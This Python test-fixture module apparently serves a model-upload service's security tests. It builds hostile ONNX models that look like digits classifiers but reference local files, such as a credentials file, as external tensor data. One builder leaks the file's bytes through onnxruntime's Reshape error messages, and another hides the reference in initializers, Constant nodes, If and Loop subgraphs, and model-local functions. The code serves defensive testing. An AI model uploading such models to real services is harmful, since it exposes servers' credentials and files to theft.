"""ONNX models an attacker would upload: digits-shaped (they pass the signature check) with a tensor
stored as external data, wherever in the graph a tensor can be."""

from __future__ import annotations

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

SHAPE_OPSET = [helper.make_opsetid("", 17)]


def external(tensor: TensorProto, location: str, length: int | None = None) -> TensorProto:
    """`tensor` with its data moved out to `location` (relative to wherever onnxruntime resolves it)."""
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    entries = {"location": location, "offset": "0"} | ({"length": str(length)} if length else {})
    for key, value in entries.items():
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return tensor


def _digits_graph(nodes, initializers=(), sparse=()) -> onnx.GraphProto:
    """x [N, 64] → … → y [N, 10]: the signature of a digits classifier, whatever the nodes do."""
    weights = numpy_helper.from_array(np.ones((64, 10), np.float32), "w")
    return helper.make_graph(
        [*nodes, helper.make_node("MatMul", ["x2", "w"], ["y"])],
        "hostile",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 64])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 10])],
        [weights, *initializers],
        sparse_initializer=list(sparse),
    )


def _model(graph: onnx.GraphProto, functions=()) -> bytes:
    model = helper.make_model(graph, opset_imports=[*SHAPE_OPSET, helper.make_opsetid("edna.attack", 1)])
    model.functions.extend(functions)
    model.ir_version = 8
    return model.SerializeToString()


def leaking_model(location: str, length: int = 32) -> bytes:
    """Reads `length` bytes of `location` as a uint8 initializer and Reshapes the input by them, so
    onnxruntime's shape error lists the file's bytes (the attack of issue 12)."""
    secret = external(numpy_helper.from_array(np.zeros(length, np.uint8), "secret"), location, length)
    zero = numpy_helper.from_array(np.array(0, np.float32), "zero")
    nodes = [
        # shape = secret + 0·sum(x): depends on the input, so it is computed at run time, not folded
        helper.make_node("ReduceSum", ["x"], ["total"], keepdims=0),
        helper.make_node("Mul", ["total", "zero"], ["nothing"]),
        helper.make_node("Cast", ["nothing"], ["offset"], to=TensorProto.INT64),
        helper.make_node("Cast", ["secret"], ["bytes"], to=TensorProto.INT64),
        helper.make_node("Add", ["bytes", "offset"], ["shape"]),
        helper.make_node("Reshape", ["x", "shape"], ["leak"]),
        # Back to [N, 64] by a shape that depends on the leak, so the Reshape above must run.
        helper.make_node("Shape", ["x"], ["xshape"]),
        helper.make_node("Reshape", ["leak", "xshape"], ["x2"]),
    ]
    return _model(_digits_graph(nodes, [secret, zero]))


def external_in(where: str, location: str = "demo-credentials.json") -> bytes:
    """A digits-shaped model whose one external tensor sits `where`: initializer, sparse_initializer,
    constant (a Constant node's value), if (a subgraph's Constant), loop (a Loop body's initializer),
    function (a node of a model-local function)."""
    tensor = external(numpy_helper.from_array(np.zeros(4, np.float32), "stolen"), location)
    identity = [helper.make_node("Identity", ["x"], ["x2"])]
    if where == "initializer":
        return _model(_digits_graph(identity, [tensor]))
    if where == "sparse_initializer":
        indices = numpy_helper.from_array(np.array([0], np.int64), "stolen_indices")
        return _model(_digits_graph(identity, sparse=[helper.make_sparse_tensor(tensor, indices, [8])]))
    if where == "constant":
        return _model(_digits_graph([*identity, helper.make_node("Constant", [], ["c"], value=tensor)]))
    branch = helper.make_graph(
        [helper.make_node("Constant", [], ["out"], value=tensor)],
        "branch",
        [],
        [helper.make_tensor_value_info("out", TensorProto.FLOAT, [4])],
    )
    if where == "if":
        node = helper.make_node("If", ["cond"], ["c"], then_branch=branch, else_branch=branch)
        cond = numpy_helper.from_array(np.array(True), "cond")
        return _model(_digits_graph([*identity, node], [cond]))
    if where == "loop":
        body = helper.make_graph(
            [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Identity", ["stolen"], ["o"])],
            "body",
            [
                helper.make_tensor_value_info("i", TensorProto.INT64, []),
                helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            ],
            [
                helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
                helper.make_tensor_value_info("o", TensorProto.FLOAT, [4]),
            ],
            [tensor],
        )
        trips = numpy_helper.from_array(np.array(1, np.int64), "trips")
        node = helper.make_node("Loop", ["trips", ""], ["c"], body=body)
        return _model(_digits_graph([*identity, node], [trips]))
    if where == "function":
        function = helper.make_function(
            "edna.attack",
            "Steal",
            [],
            ["out"],
            [helper.make_node("Constant", [], ["out"], value=tensor)],
            SHAPE_OPSET,
        )
        node = helper.make_node("Steal", [], ["c"], domain="edna.attack")
        return _model(_digits_graph([*identity, node]), [function])
    raise ValueError(where)
